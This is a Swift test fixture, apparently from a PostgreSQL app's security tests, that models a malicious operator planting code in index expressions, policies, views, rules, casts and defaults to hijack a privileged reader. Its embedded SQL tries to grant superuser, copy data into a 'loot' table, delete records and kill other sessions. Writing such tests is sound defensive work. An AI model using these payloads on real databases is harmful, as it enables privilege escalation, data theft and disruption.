/// An operator who hides code in a table of theirs, for whoever reads or plans to read it.
enum Attacker {
    /// A table, or what passes for one, with code in it.
    struct Trap {
        let name: String
        /// Makes it: `$t` is its name, `$c` the columns site, at and x.
        let sql: String
        /// What is changed once it is attached.
        var after = ""
        var isTable = true
        /// What comes of reading it; nil where the code does not run.
        var error: String?
    }

    /// What the code says of where it ran.
    static let ran = "ran as hazecast_reads, in a session of attack_daemon, super f"

    /// Code that tries everything which can be tried without an error, and then says with whose rights it ran.
    static let code = """
        CREATE ROLE attack_op; GRANT hazecast_operator, pg_read_server_files TO attack_op;
        CREATE SCHEMA mine AUTHORIZATION attack_op;
        CREATE ROLE attack_daemon LOGIN; GRANT hazecast_daemon TO attack_daemon;
        CREATE TABLE public.others (site text, at timestamptz PRIMARY KEY, x real);
        CREATE TABLE public.loot (what text);
        GRANT INSERT, SELECT ON public.loot TO PUBLIC;
        CREATE EXTENSION file_fdw; CREATE SERVER attack_files FOREIGN DATA WRAPPER file_fdw;
        GRANT USAGE ON FOREIGN SERVER attack_files TO attack_op;
        SET ROLE attack_op;
        CREATE FUNCTION mine.late() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE 'ALTER ROLE attack_op SUPERUSER';
            RETURN NULL;
        END $$;
        CREATE TABLE mine.trap (n int);
        CREATE CONSTRAINT TRIGGER late AFTER INSERT ON mine.trap DEFERRABLE INITIALLY DEFERRED
            FOR EACH ROW EXECUTE FUNCTION mine.late();
        GRANT INSERT ON mine.trap TO PUBLIC; GRANT USAGE ON SCHEMA mine TO PUBLIC;
        CREATE FUNCTION mine.deed(what text) RETURNS void LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE what;
        EXCEPTION WHEN OTHERS THEN NULL;
        END $$;
        CREATE FUNCTION mine.inner_code() RETURNS int VOLATILE LANGUAGE plpgsql AS $$
        DECLARE
            deed text;
        BEGIN
            FOREACH deed IN ARRAY ARRAY[
                'RESET ROLE', 'SET ROLE attack_daemon', 'SET ROLE hazecast_daemon', 'SET SESSION AUTHORIZATION DEFAULT',
                'ALTER ROLE attack_op SUPERUSER', 'GRANT hazecast_daemon TO attack_op',
                'GRANT hazecast_writer TO attack_op', 'INSERT INTO mine.trap VALUES (1)',
                'SET TRANSACTION READ WRITE', 'SET transaction_read_only = off',
                'INSERT INTO public.loot SELECT x::text FROM public.others',
                'INSERT INTO hazecast.station (name) VALUES (''attack'')', 'DELETE FROM hazecast.attachment_change',
                'SELECT pg_advisory_unlock_all()', 'UNLISTEN *', 'NOTIFY hazecast_arrival', 'DISCARD TEMP',
                'DEALLOCATE ALL',
                'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()',
                'ALTER FUNCTION pg_temp.hazecast_read() SECURITY INVOKER', 'DROP FUNCTION pg_temp.hazecast_read()',
                'SELECT set_config(''search_path'', ''mine, pg_catalog'', false)',
                'SELECT set_config(''hazecast.far'', ''1'', false)',
                'SELECT set_config(''statement_timeout'', ''1'', false)',
                'SELECT set_config(''TimeZone'', ''Asia/Kolkata'', false)'
            ] LOOP
                PERFORM mine.deed(deed);
            END LOOP;
            RAISE EXCEPTION 'ran as %, in a session of %, super %', regexp_replace(current_user::text, '[0-9_]+$', ''),
                session_user, (SELECT rolsuper FROM pg_roles WHERE rolname = current_user);
        END $$;
        CREATE FUNCTION mine.code(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
        BEGIN
            IF current_user = 'attack_op' THEN RETURN 1; END IF;
            RETURN mine.inner_code();
        END $$;
        CREATE FUNCTION mine.code_text(text) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT mine.code(1)::text $$;
        CREATE FUNCTION mine.code_real(real) RETURNS boolean IMMUTABLE LANGUAGE sql AS $$ SELECT mine.code(1) = 1 $$;
        CREATE FUNCTION mine.code_order(timestamptz, timestamptz) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
        BEGIN RETURN mine.code(1); END $$;
        CREATE TYPE mine.word AS ENUM ('a', 'b');
        CREATE FUNCTION mine.code_word(mine.word) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$
        BEGIN RETURN mine.code(1)::text; END $$;
        CREATE CAST (mine.word AS text) WITH FUNCTION mine.code_word(mine.word);
        RESET ROLE;
        -- Only a superuser can make one.
        CREATE OPERATOR CLASS mine.order_ops FOR TYPE timestamptz USING btree AS OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =,
            OPERATOR 4 >=, OPERATOR 5 >, FUNCTION 1 mine.code_order(timestamptz, timestamptz);
        """

    static let traps = [
        Trap(
            name: "an index expression", sql: "CREATE TABLE $t ($c); CREATE INDEX ON $t ((mine.code(1)))", error: ran),
        Trap(
            name: "a partial index", sql: "CREATE TABLE $t ($c); CREATE INDEX ON $t (at) WHERE mine.code(1) = 1",
            error: ran),
        Trap(
            name: "statistics of an expression",
            sql: "CREATE TABLE $t ($c); CREATE STATISTICS mine.s ON (mine.code_text(site)), x FROM $t", error: ran),
        Trap(
            name: "a generated column",
            sql: "CREATE TABLE $t ($c, y text GENERATED ALWAYS AS (mine.code_text('')) STORED)"),
        Trap(
            name: "a policy", sql: "CREATE TABLE $t ($c); CREATE POLICY p ON $t USING (mine.code(1) = 1)",
            after: "ALTER TABLE $t ENABLE ROW LEVEL SECURITY",
            error: "query would be affected by row-level security policy for table \"$n\""),
        Trap(
            name: "a view", sql: "CREATE VIEW $t AS SELECT 'a'::text AS site, now() AS at, mine.code(1)::real AS x",
            isTable: false, error: ran),
        Trap(
            name: "a rule that makes a table a view",
            sql: "CREATE VIEW $t AS SELECT 'a'::text AS site, now() AS at, 1::real AS x",
            after: """
                CREATE OR REPLACE VIEW $t AS SELECT 'a'::text AS site, now() AS at, 1::real AS x WHERE mine.code(1) = 1
                """,
            isTable: false, error: ran),
        Trap(
            name: "a rule", sql: "CREATE TABLE $t ($c); CREATE RULE r AS ON UPDATE TO $t DO ALSO SELECT mine.code(1)"),
        Trap(
            name: "a foreign table",
            sql: """
                CREATE TABLE $t ($c); CREATE FOREIGN TABLE $t_far (CHECK (mine.code(1) = 1)) INHERITS ($t)
                SERVER attack_files OPTIONS (filename '/dev/null')
                """,
            error: ran),
        Trap(
            name: "an operator class", sql: "CREATE TABLE $t ($c); CREATE INDEX ON $t (at mine.order_ops)", error: ran),
        Trap(
            name: "a domain check",
            sql: """
                CREATE DOMAIN mine.d AS real CHECK (mine.code_real(VALUE));
                CREATE TABLE $t (site text, at timestamptz, x mine.d)
                """),
        Trap(
            name: "a cast", sql: "CREATE TABLE $t ($c)", after: "ALTER TABLE $t ALTER x TYPE mine.word USING 'a'",
            error: ran),
        Trap(
            name: "a default", sql: "CREATE TABLE $t (site text, at timestamptz, x real DEFAULT mine.code(1))"),
    ]
}

extension Attacker.Trap {
    /// A piece of its SQL, or its error, for the trap of a number.
    func text(_ sql: String, _ number: Int) -> String {
        sql.replacing("$c", with: "site text, at timestamptz, x real").replacing("$t", with: "mine.t\(number)")
            .replacing("$n", with: "t\(number)")
    }
}
